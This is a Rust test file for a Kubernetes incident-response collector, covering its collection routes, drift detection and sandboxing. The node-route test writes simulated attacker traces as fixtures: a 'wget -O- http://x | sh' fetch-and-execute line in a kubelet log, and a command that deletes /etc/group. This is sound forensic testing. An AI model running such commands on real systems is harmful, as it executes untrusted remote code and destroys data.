//! Containers without a shell: named distroless with the routes that work, and
//! collected through an ephemeral container (`--via ephemeral` and `--via auto`), the
//! pod's collector sidecar, and a short-lived pod on the node.

use super::*;

#[test]
fn a_container_without_a_shell_is_named_distroless_with_the_routes_that_work() {
    let Some(bin) = docker::setup() else { return };
    // FROM scratch with only a static binary, under a name no list knows.
    let t = tempfile::tempdir().unwrap();
    std::fs::copy(&bin, t.path().join("app")).unwrap();
    std::fs::write(
        t.path().join("Dockerfile"),
        "FROM scratch\nCOPY app /app\nUSER 65532\nENTRYPOINT [\"/app\"]\n",
    )
    .unwrap();
    let img = "cairn-launcher-noshell:1";
    let st = Command::new("docker")
        .args(["build", "-q", "-t", img])
        .arg(t.path())
        .env("DOCKER_BUILDKIT", "0")
        .output()
        .unwrap();
    cairn_testkit::env::succeeded(&st);
    let ns = format!("ns-{}", std::process::id());
    // `verify -` blocks on its open stdin: it stands in for the application.
    let args = [
        "run",
        "-d",
        "-i",
        "--network",
        "none",
        "--label",
        &format!("io.kubernetes.pod.namespace={ns}"),
        "--label",
        "io.kubernetes.pod.name=api",
        "--label",
        "io.kubernetes.container.name=main",
        img,
        "verify",
        "-",
    ];
    let _c = Container(docker::ok(&args));
    let s = ApiServer::start(&[]);
    let out = s.dir.path().join("out");
    let o = cairn(
        &s,
        &[
            "-n",
            &ns,
            "collect",
            "api",
            "--output-dir",
            out.to_str().unwrap(),
        ],
    );
    assert_eq!(o.status.code(), Some(1), "{}", text(&o.stderr));
    let report = text(&o.stdout);
    assert!(
        report.contains("has no shell") && report.contains("--via ephemeral"),
        "{report}"
    );

    // `pods` knows it only by name (unknown here) until it probes: then the probe
    // exec of sh fails and the verdict is distroless; a busybox pod has its shell.
    let _bb = pod(&ns, "bb", docker::busybox_image(), &[]);
    let verdicts = |extra: &[&str]| {
        let mut a = vec!["-n", ns.as_str(), "pods", "-o", "json"];
        a.extend(extra);
        let o = cairn(&s, &a);
        cairn_testkit::env::succeeded(&o);
        let v: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
        let mut pairs: Vec<(String, String, String)> = v
            .as_array()
            .unwrap()
            .iter()
            .map(|t| {
                (
                    t["pod"].as_str().unwrap().to_owned(),
                    t["verdict"].as_str().unwrap().to_owned(),
                    t["probe"].as_str().unwrap_or("-").to_owned(),
                )
            })
            .collect();
        pairs.sort();
        pairs
    };
    let s3 = |a: &str, b: &str, c: &str| (a.to_owned(), b.to_owned(), c.to_owned());
    assert_eq!(
        verdicts(&[]),
        [s3("api", "running", "-"), s3("bb", "running", "-")]
    );
    assert_eq!(
        verdicts(&["--probe"]),
        [
            s3("api", "distroless", "no shell"),
            s3("bb", "exec-able", "shell")
        ]
    );
}

/// The collector image as a responder builds it (`scripts/build-image.sh`), and a
/// FROM-scratch application under uid 65532 with a planted file and no shell; the
/// collector image and every container of `ns` are removed on drop.
pub struct Images {
    pub collector: String,
    app: &'static str,
    pub ns: String,
}

impl Images {
    pub fn build(bin: &Path, test: &str) -> Images {
        let pid = std::process::id();
        let collector = format!("cairn-collector:e2e-{test}-{pid}");
        let script = Path::new(env!("CARGO_MANIFEST_DIR")).join("../scripts/build-image.sh");
        let o = Command::new("bash")
            .arg(&script)
            .args(["--bin", bin.to_str().unwrap(), "--tag", &collector])
            .output()
            .unwrap();
        cairn_testkit::env::succeeded(&o);
        let t = tempfile::tempdir().unwrap();
        std::fs::copy(bin, t.path().join("app")).unwrap();
        std::fs::write(
            t.path().join("evidence-planted.txt"),
            "dropped by the attacker\n",
        )
        .unwrap();
        std::fs::write(
            t.path().join("Dockerfile"),
            "FROM scratch\nCOPY app /app\nCOPY evidence-planted.txt /evidence-planted.txt\nUSER 65532\nENTRYPOINT [\"/app\"]\n",
        )
        .unwrap();
        let app = "cairn-launcher-distroless-evidence:1";
        let st = Command::new("docker")
            .args(["build", "-q", "-t", app])
            .arg(t.path())
            .env("DOCKER_BUILDKIT", "0")
            .output()
            .unwrap();
        cairn_testkit::env::succeeded(&st);
        Images {
            collector,
            app,
            ns: format!("{test}-{pid}"),
        }
    }

    /// A pod of the application (`verify -` blocks on its open stdin: it stands in
    /// for the application); returns the container's ID.
    pub fn app_pod(&self, pod: &str) -> String {
        docker::ok(&[
            "run",
            "-d",
            "-i",
            "--network",
            "none",
            "--label",
            &format!("io.kubernetes.pod.namespace={}", self.ns),
            "--label",
            &format!("io.kubernetes.pod.name={pod}"),
            "--label",
            "io.kubernetes.container.name=main",
            self.app,
            "verify",
            "-",
        ])
    }
}

impl Images {
    /// The collector image for both architectures: this machine's under its tag, and
    /// each under TAG-amd64 and TAG-arm64, the variant the test API server's arm64 node
    /// runs (as a kubelet pulls its architecture's from a multi-architecture image).
    pub fn with_arm64(self, x86: &Path, arm: &Path) -> Images {
        let script = Path::new(env!("CARGO_MANIFEST_DIR")).join("../scripts/build-image.sh");
        let o = Command::new("bash")
            .arg(&script)
            .args([
                "--bin",
                x86.to_str().unwrap(),
                "--bin",
                arm.to_str().unwrap(),
            ])
            .args(["--tag", &self.collector])
            .output()
            .unwrap();
        cairn_testkit::env::succeeded(&o);
        self
    }
}

impl Drop for Images {
    fn drop(&mut self) {
        let ids = docker::docker(&[
            "ps",
            "-aq",
            "--filter",
            &format!("label=io.kubernetes.pod.namespace={}", self.ns),
        ]);
        for id in text(&ids.stdout).split_whitespace() {
            let _ = docker::docker(&["rm", "-f", id]);
        }
        let _ = docker::docker(&["rmi", "-f", &self.collector]);
        for arch in ["amd64", "arm64"] {
            let _ = docker::docker(&["rmi", "-f", &format!("{}-{arch}", self.collector)]);
        }
    }
}

/// The collector pods `s` created (in cairn-system) that still have a container:
/// those of other tests, which may run beside this one, are not counted.
pub fn collector_pods_left(s: &ApiServer) -> Vec<String> {
    s.log()
        .lines()
        .filter(|l| l.contains("pod created: spec ") && l.contains("namespace=cairn-system"))
        .filter_map(|l| l.rsplit(" pod=").next()?.split_whitespace().next())
        .filter(|name| {
            let ids = docker::docker(&[
                "ps",
                "-aq",
                "--filter",
                "label=io.kubernetes.pod.namespace=cairn-system",
                "--filter",
                &format!("label=io.kubernetes.pod.name={name}"),
            ]);
            !text(&ids.stdout).trim().is_empty()
        })
        .map(str::to_owned)
        .collect()
}

/// How many archive entries name the planted file (0 when it is not there).
fn planted_in(archive: &str) -> String {
    let z = Command::new("sh")
        .arg("-c")
        .arg(format!(
            "zstd -dc '{archive}' | grep -ac evidence-planted.txt"
        ))
        .output()
        .unwrap();
    text(&z.stdout).trim().to_owned()
}

#[test]
fn a_distroless_container_by_an_ephemeral_container_directly_or_by_auto() {
    let Some(bin) = docker::setup() else { return };
    let img = Images::build(&bin, "eph");
    let ns = img.ns.clone();
    for name in ["api", "auto"] {
        img.app_pod(name);
    }
    let s = ApiServer::start(&[]);
    let out = s.dir.path().join("out");
    for (pod, via) in [("api", "ephemeral"), ("auto", "auto")] {
        let o = cairn(
            &s,
            &[
                "-n",
                &ns,
                "collect",
                pod,
                "--via",
                via,
                "--collector-image",
                &img.collector,
                "--output-dir",
                out.to_str().unwrap(),
                "-o",
                "json",
            ],
        );
        assert!(
            o.status.success(),
            "{}\n{}",
            text(&o.stdout),
            text(&o.stderr)
        );
        let r = &serde_json::from_slice::<serde_json::Value>(&o.stdout).unwrap()[0];
        assert_eq!(r["method"], "ephemeral", "{r}");
        // The target's own filesystem, through /proc/PID/root.
        assert_ne!(
            planted_in(r["archive"].as_str().unwrap()),
            "0",
            "the target's files are not in the archive"
        );
    }
    assert_eq!(archives(&out).len(), 2);
    // A refusal from the API server is one sentence: the step, then the server's words.
    let o = cairn(
        &s,
        &[
            "-n",
            &ns,
            "collect",
            "api",
            "--via",
            "ephemeral",
            "--collector-image",
            "cairn-test/no-such-image:missing",
            "--output-dir",
            out.to_str().unwrap(),
            "-o",
            "json",
        ],
    );
    assert_eq!(o.status.code(), Some(1), "{}", text(&o.stderr));
    let r = &serde_json::from_slice::<serde_json::Value>(&o.stdout).unwrap()[0];
    let error = r["error"].as_str().unwrap_or_default();
    assert!(
        error.starts_with(&format!(
            "adding an ephemeral container to {ns}/api: starting ephemeral container cairn-"
        )) && error.contains("cairn-test/no-such-image:missing")
            && !error.contains("ApiError")
            && !error.contains("Status {"),
        "{r}"
    );
    assert_eq!(archives(&out).len(), 2);
    // The ephemeral containers' idle commands were ended.
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(10);
    loop {
        let running = docker::ok(&[
            "ps",
            "-q",
            "--filter",
            &format!("label=io.kubernetes.pod.namespace={ns}"),
            "--filter",
            "label=cairn.test/ephemeral-target",
        ]);
        if running.is_empty() {
            break;
        }
        assert!(
            std::time::Instant::now() < deadline,
            "ephemeral containers still running: {running}"
        );
        std::thread::sleep(std::time::Duration::from_millis(200));
    }
}

#[test]
fn process_memory_through_an_ephemeral_container_and_refused_by_the_node_route() {
    let Some(bin) = docker::setup() else { return };
    let img = Images::build(&bin, "mem");
    let ns = img.ns.clone();
    img.app_pod("api");
    let s = ApiServer::start(&[]);
    let out = s.dir.path().join("out");
    let collect = |via: &str| {
        cairn(
            &s,
            &[
                "-n",
                &ns,
                "collect",
                "api",
                "--via",
                via,
                "--memory",
                "--collector-image",
                &img.collector,
                "--output-dir",
                out.to_str().unwrap(),
                "-o",
                "json",
            ],
        )
    };
    // The node route has no live processes: refused before anything runs.
    let o = collect("node");
    assert_eq!(o.status.code(), Some(2), "{}", text(&o.stderr));
    assert!(
        text(&o.stderr).contains("--memory reads the target's running processes"),
        "{}",
        text(&o.stderr)
    );
    assert!(!out.exists(), "a refused run left its output directory");
    // auto: the ephemeral route, whose collector holds CAP_SYS_PTRACE.
    let o = collect("auto");
    assert!(o.status.success(), "{}", text(&o.stderr));
    let r = &serde_json::from_slice::<serde_json::Value>(&o.stdout).unwrap()[0];
    assert_eq!(r["method"], "ephemeral", "{r}");
    let a = cairn_testkit::archive::Archive::read(Path::new(r["archive"].as_str().unwrap()));
    let procs: Vec<serde_json::Value> = a
        .text("live_response/memory/processes.jsonl")
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    // The application (the image's /app, running `verify -`), not cairn's own idle
    // collector or the collection itself.
    let app = procs
        .iter()
        .find(|p| p["comm"] == "app")
        .unwrap_or_else(|| panic!("no app process in {procs:?}"));
    assert!(
        procs.iter().all(|p| p["comm"] != "cairn-collector"),
        "{procs:?}"
    );
    let member = app["core"]
        .as_str()
        .unwrap_or_else(|| panic!("no core: {app}"));
    let core = s.dir.path().join("app.core");
    std::fs::write(&core, a.get(member).unwrap()).unwrap();
    let h = Command::new("readelf")
        .arg("-lW")
        .arg(&core)
        .output()
        .unwrap();
    let segments = text(&h.stdout);
    assert!(
        segments.contains("Elf file type is CORE") && segments.contains("LOAD"),
        "{segments}"
    );
}

#[test]
fn each_container_of_a_pod_by_its_collector_sidecar_and_the_patch_that_adds_one() {
    let Some(bin) = docker::setup() else { return };
    let img = Images::build(&bin, "sc");
    let ns = img.ns.clone();
    // A pod with a collector sidecar (shareProcessNamespace): the application, a
    // second container, and the sidecar waiting. Each container is found by its ID.
    let app = img.app_pod("sc");
    let shared = format!("container:{app}");
    docker::ok(&[
        "run",
        "-d",
        "--pid",
        &shared,
        "--network",
        "none",
        "--label",
        &format!("io.kubernetes.pod.namespace={ns}"),
        "--label",
        "io.kubernetes.pod.name=sc",
        "--label",
        "io.kubernetes.container.name=other",
        docker::busybox_image(),
        "sleep",
        "3600",
    ]);
    docker::ok(&[
        "run",
        "-d",
        "--pid",
        &shared,
        "--network",
        "none",
        "--user",
        "0",
        "--cap-add",
        "SYS_PTRACE",
        "--label",
        &format!("io.kubernetes.pod.namespace={ns}"),
        "--label",
        "io.kubernetes.pod.name=sc",
        "--label",
        "io.kubernetes.container.name=cairn-collector",
        &img.collector,
        "idle",
        "--for",
        "10m",
    ]);
    let s = ApiServer::start(&[]);
    let out_sc = s.dir.path().join("out-sidecar");
    for (target, planted) in [("sc/main", true), ("sc/other", false)] {
        let o = cairn(
            &s,
            &[
                "-n",
                &ns,
                "collect",
                target,
                "--via",
                "sidecar",
                "--output-dir",
                out_sc.to_str().unwrap(),
                "-o",
                "json",
            ],
        );
        assert!(
            o.status.success(),
            "{}\n{}",
            text(&o.stdout),
            text(&o.stderr)
        );
        let r = &serde_json::from_slice::<serde_json::Value>(&o.stdout).unwrap()[0];
        assert_eq!(r["method"], "sidecar", "{r}");
        assert_eq!(
            planted_in(r["archive"].as_str().unwrap()) != "0",
            planted,
            "{target}: the wrong container was collected"
        );
    }
    // The patch that adds such a sidecar to a workload.
    let o = common::env::command(CAIRN)
        .args([
            "-n",
            "shop",
            "sidecar",
            "--for",
            "deployment/web",
            "--collector-image",
            &img.collector,
        ])
        .output()
        .unwrap();
    cairn_testkit::env::succeeded(&o);
    let printed = text(&o.stdout);
    assert!(
        printed.contains("kubectl -n shop patch deployment web --patch-file"),
        "{printed}"
    );
    let json: String = printed
        .lines()
        .filter(|l| !l.starts_with('#'))
        .collect::<Vec<_>>()
        .join("\n");
    let patch: serde_json::Value = serde_json::from_str(&json).unwrap();
    let spec = &patch["spec"]["template"]["spec"];
    assert_eq!(spec["shareProcessNamespace"], true);
    assert_eq!(spec["containers"][0]["image"], img.collector.as_str());
    assert_eq!(
        spec["containers"][0]["securityContext"]["capabilities"]["add"][0],
        "SYS_PTRACE"
    );
}

#[test]
fn a_container_by_a_short_lived_pod_on_its_node_with_its_drift() {
    let Some(bin) = docker::setup() else { return };
    let img = Images::build(&bin, "node");
    let ns = img.ns.clone();
    // The node route: a short-lived pod with the runtime's directories read-only
    // rebuilds the container from its layers; drift names what was dropped in it.
    let bb = docker::ok(&[
        "run",
        "-d",
        "--network",
        "none",
        "--label",
        &format!("io.kubernetes.pod.namespace={ns}"),
        "--label",
        "io.kubernetes.pod.name=bb",
        "--label",
        "io.kubernetes.pod.uid=0b7c4e1d-5a6f-4c3b-8e2d-1f0a9b8c7d6e",
        "--label",
        "io.kubernetes.container.name=main",
        docker::busybox_image(),
        "sleep",
        "3600",
    ]);
    docker::ok(&[
        "exec",
        &bb,
        "sh",
        "-c",
        "echo implant > /tmp/dropped-by-attacker.sh; rm /etc/group",
    ]);
    // The node's /var/log, where the test bed's API server mounts it from: what the
    // kubelet keeps of the container's output, and the node's own logs.
    let var_log = tempfile::tempdir().unwrap();
    let kept = var_log.path().join(format!(
        "pods/{ns}_bb_0b7c4e1d-5a6f-4c3b-8e2d-1f0a9b8c7d6e/main"
    ));
    std::fs::create_dir_all(&kept).unwrap();
    std::fs::write(
        kept.join("0.log"),
        "2026-11-30T10:00:00.000000001Z stderr F wget -O- http://x | sh\n",
    )
    .unwrap();
    std::fs::write(kept.join("0.log.20261129-101010.gz"), b"rotated").unwrap();
    let other = var_log.path().join(format!("pods/{ns}_other_1/main"));
    std::fs::create_dir_all(&other).unwrap();
    std::fs::write(other.join("0.log"), "another pod's output\n").unwrap();
    let journal = var_log
        .path()
        .join("journal/0123456789abcdef0123456789abcdef");
    std::fs::create_dir_all(&journal).unwrap();
    std::fs::write(journal.join("system.journal"), "LPKSHHRH kubelet").unwrap();
    std::fs::write(journal.join("user-1000.journal"), "LPKSHHRH user").unwrap();
    for f in ["containerd.log", "kubelet.log.1", "auth.log"] {
        std::fs::write(var_log.path().join(f), f).unwrap();
    }
    let st = Command::new("touch")
        .args(["-d", "2020-01-01T00:00:00Z"])
        .arg(var_log.path().join("kubelet.log.1"))
        .status()
        .unwrap();
    assert!(st.success());
    let s = ApiServer::start(&[
        "--host-path-map",
        &format!("/var/log={}", var_log.path().display()),
    ]);
    let out_node = s.dir.path().join("out-node");
    let o = cairn(
        &s,
        &[
            "-n",
            &ns,
            "collect",
            "bb",
            "--via",
            "node",
            "--node-logs",
            "--collector-image",
            &img.collector,
            "--output-dir",
            out_node.to_str().unwrap(),
            "-o",
            "json",
        ],
    );
    assert!(
        o.status.success(),
        "{}\n{}",
        text(&o.stdout),
        text(&o.stderr)
    );
    let r = &serde_json::from_slice::<serde_json::Value>(&o.stdout).unwrap()[0];
    assert_eq!(r["method"], "node", "{r}");
    // A refusal from the API server is one sentence: the step, then the server's words.
    let refused = cairn(
        &s,
        &[
            "-n",
            &ns,
            "collect",
            "bb",
            "--via",
            "node",
            "--collector-image",
            "cairn-test/no-such-image:missing",
            "--output-dir",
            s.dir.path().join("out-refused").to_str().unwrap(),
            "-o",
            "json",
        ],
    );
    assert_eq!(refused.status.code(), Some(1), "{}", text(&refused.stderr));
    let rr = &serde_json::from_slice::<serde_json::Value>(&refused.stdout).unwrap()[0];
    let error = rr["error"].as_str().unwrap_or_default();
    assert!(
        error.starts_with("creating the collector pod on node ")
            && error.contains(" in namespace cairn-system: starting cairn-node-")
            && !error.contains("ApiError")
            && !error.contains("Status {"),
        "{rr}"
    );
    let drift = Command::new("sh")
        .arg("-c")
        .arg(format!(
            "zstd -dc '{}' | grep -a '\"change\"'",
            r["archive"].as_str().unwrap()
        ))
        .output()
        .unwrap();
    let drift = text(&drift.stdout);
    let line = |change: &str, path: &str| {
        drift.lines().any(|l| {
            l.contains(&format!("\"change\":\"{change}\""))
                && l.contains(&format!("\"path\":\"{path}\""))
        })
    };
    assert!(line("added", "/tmp/dropped-by-attacker.sh"), "{drift}");
    assert!(line("deleted", "/etc/group"), "{drift}");
    // The kubelet's files of this container, rotated ones included, and no other pod's.
    let a = cairn_testkit::archive::Archive::read(Path::new(r["archive"].as_str().unwrap()));
    // The collector confined itself in the node pod before reading the node.
    let log = a.text("collection.log");
    assert!(
        log.contains("sandbox: landlock enforced: reads only beneath /node/var/lib/docker, /node/var/log, /proc")
            && log.contains("seccomp: 34 system calls refused"),
        "{log}"
    );
    let top = format!("node/var/log/pods/{ns}_bb_0b7c4e1d-5a6f-4c3b-8e2d-1f0a9b8c7d6e/main");
    assert!(a
        .text(&format!("{top}/0.log"))
        .contains("wget -O- http://x | sh"));
    let kubelet: Vec<String> = a
        .manifest()
        .iter()
        .filter(|r| r["artifact"] == "node/kubelet_logs")
        .filter_map(|r| r["path"].as_str().map(str::to_owned))
        .collect();
    assert_eq!(
        kubelet,
        [
            format!("{top}/0.log"),
            format!("{top}/0.log.20261129-101010.gz")
        ],
        "{kubelet:?}"
    );
    // --node-logs: the kubelet's and the runtime's since the pod started; an older
    // rotation is recorded as skipped; nothing else of /var/log.
    let system: Vec<(String, String)> = a
        .manifest()
        .iter()
        .filter(|r| r["artifact"] == "node/system_logs")
        .map(|r| {
            (
                r["source"].as_str().unwrap_or_default().to_owned(),
                r["status"].as_str().unwrap_or_default().to_owned(),
            )
        })
        .collect();
    assert_eq!(
        system,
        [
            (
                "/var/log/journal/0123456789abcdef0123456789abcdef/system.journal".into(),
                "complete".into()
            ),
            ("/var/log/containerd.log".into(), "complete".into()),
            ("/var/log/kubelet.log.1".into(), "skipped".into()),
        ],
        "{system:?}"
    );
    let left = collector_pods_left(&s);
    assert!(left.is_empty(), "collector pods left behind: {left:?}");
    // The same confinement in the collector image as the node pod runs it (no
    // capability but DAC_READ_SEARCH, the node's logs read-only): the node's logs are
    // read, a file outside them is refused.
    let sandboxed = docker::ok(&[
        "run",
        "--rm",
        "--network",
        "none",
        "--cap-drop",
        "ALL",
        "--cap-add",
        "DAC_READ_SEARCH",
        "--security-opt",
        "no-new-privileges",
        "--read-only",
        "-v",
        &format!("{}:/node/var/log:ro", var_log.path().display()),
        "--entrypoint",
        "/cairn-collector",
        &img.collector,
        "sandbox",
        "--node-root",
        "/node",
        "--try",
        "/node/var/log/containerd.log",
        "--try",
        "/etc/hostname",
    ]);
    assert!(sandboxed.contains("landlock enforced"), "{sandboxed}");
    assert!(
        sandboxed.contains("read /node/var/log/containerd.log: allowed")
            && sandboxed.contains("read /etc/hostname: refused (Permission denied"),
        "{sandboxed}"
    );
    // The collector pod as cairn asked for it: in its own namespace, the runtime's
    // state directory and the kubelet's logs alone, read-only all the way down, no
    // runtime socket, seccomp, no privilege, limited in resources and in time.
    let log = s.log();
    let line = log
        .lines()
        .find(|l| l.contains("namespace=cairn-system") && l.contains("pod created: spec "))
        .unwrap_or_else(|| panic!("no collector pod created in cairn-system:\n{log}"));
    // The JSON first, then the log line's fields.
    let after = line.split("pod created: spec ").nth(1).unwrap();
    let spec: serde_json::Value = serde_json::Deserializer::from_str(after)
        .into_iter()
        .next()
        .unwrap()
        .unwrap();
    let c = &spec["containers"][0];
    let mounts = c["volumeMounts"].as_array().unwrap();
    assert_eq!(mounts.len(), 2, "{mounts:?}");
    assert_eq!(mounts[0]["mountPath"], "/node/var/lib/docker");
    assert_eq!(mounts[1]["mountPath"], "/node/var/log");
    for m in mounts {
        assert_eq!(m["readOnly"], true, "{m}");
        assert_eq!(m["recursiveReadOnly"], "Enabled", "{m}");
    }
    let volumes = spec["volumes"].as_array().unwrap();
    assert!(
        volumes.iter().all(|v| v["hostPath"]["type"] == "Directory"),
        "{volumes:?}"
    );
    assert!(
        !line.contains("/run/containerd") && !line.contains("docker.sock"),
        "{line}"
    );
    assert_eq!(
        spec["securityContext"]["seccompProfile"]["type"],
        "RuntimeDefault"
    );
    assert!(
        spec["activeDeadlineSeconds"].as_u64().unwrap() <= 30 * 60 + 120,
        "{spec}"
    );
    assert_eq!(spec["automountServiceAccountToken"], false);
    assert_eq!(c["securityContext"]["allowPrivilegeEscalation"], false);
    assert_eq!(c["securityContext"]["capabilities"]["drop"][0], "ALL");
    assert_eq!(
        c["securityContext"]["capabilities"]["add"],
        serde_json::json!(["DAC_READ_SEARCH"])
    );
    assert!(c["resources"]["limits"]["memory"].is_string(), "{c}");
}
